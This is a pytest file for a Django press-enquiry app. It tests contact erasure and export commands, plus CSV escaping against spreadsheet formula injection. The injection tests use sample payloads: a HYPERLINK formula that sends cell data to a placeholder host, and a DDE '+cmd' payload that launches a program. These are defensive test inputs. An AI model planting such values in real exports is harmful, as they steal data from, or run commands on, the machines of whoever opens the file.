import csv
import io
import json
import subprocess
import sys
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from enquiries.handling import enquiries as handling
from enquiries.models import ErasureReceipt, Journalist
from enquiries.privacy.csv_safe import safe_cell
from tests import makers

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]


def _run(*args: str) -> str:
    out = StringIO()
    call_command(*args, stdout=out, stderr=StringIO())
    return out.getvalue()


def test_erase_contact_prints_the_receipt(officer):
    makers.make_enquiry(journalist=makers.make_journalist())
    output = _run("erase_contact", "--email", " Ola.Nordmann@VG.NO ", "--by", "officer")
    assert "by officer: 1 contacts removed, 1 enquiries emptied" in output
    receipt = ErasureReceipt.objects.get()
    assert (receipt.via, receipt.by) == ("command", officer)
    assert not Journalist.objects.exists()


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        (["--email", "not an address", "--by", "officer"], "Not a valid e-mail address."),
        (["--phone", "12", "--by", "officer"], "Not a valid phone number."),
        (["--email", "ola@vg.no", "--by", "nobody"], "No active user named 'nobody'."),
    ],
)
def test_erase_contact_refuses_bad_input_in_one_line(officer, args, reason):
    with pytest.raises(CommandError, match=reason):
        _run("erase_contact", *args)
    assert not ErasureReceipt.objects.exists()


def test_erase_contact_exits_non_zero_from_the_shell():
    result = subprocess.run(
        [sys.executable, "manage.py", "erase_contact", "--email", "x", "--by", "nobody"],
        cwd=ROOT, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert result.returncode != 0
    assert result.stderr.strip().splitlines()[-1] == "CommandError: Not a valid e-mail address."


def test_export_contact_as_json_holds_the_thread():
    enquiry = makers.make_enquiry(journalist=makers.make_journalist())
    handling.add_message(enquiry_id=enquiry.pk, by=None, direction="in", body="Spørsmål 🙂")
    export = json.loads(_run("export_contact", "--phone", "400 33 431"))
    [person] = export["journalists"]
    assert person["enquiries"][0]["messages"][0]["body"] == "Spørsmål 🙂"


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|'/C calc'!A0", "@SUM(1)", "-2+3"],
)
def test_export_contact_csv_cells_are_text_in_spreadsheets(hostile):
    makers.make_enquiry(journalist=makers.make_journalist(first_name=hostile), topic=hostile)
    rows = list(
        csv.reader(
            io.StringIO(_run("export_contact", "--email", "ola.nordmann@vg.no", "--format", "csv"))
        )
    )
    header, row = rows[0], rows[1]
    assert row[header.index("first_name")] == "'" + hostile
    assert row[header.index("topic")] == "'" + hostile
    assert row[header.index("email")] == "ola.nordmann@vg.no"


def test_export_of_an_unknown_contact_is_empty_not_an_error():
    assert json.loads(_run("export_contact", "--email", "nobody@vg.no"))["journalists"] == []


@pytest.mark.parametrize("value", ["\tTab", "\rCR", "=1+1", "+1", "-1", "@A1"])
def test_a_cell_starting_with_a_formula_or_control_character_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ola", "1+1", "", "æøå 🙂", "a=b"])
def test_ordinary_cells_are_left_alone(value):
    assert safe_cell(value) == value
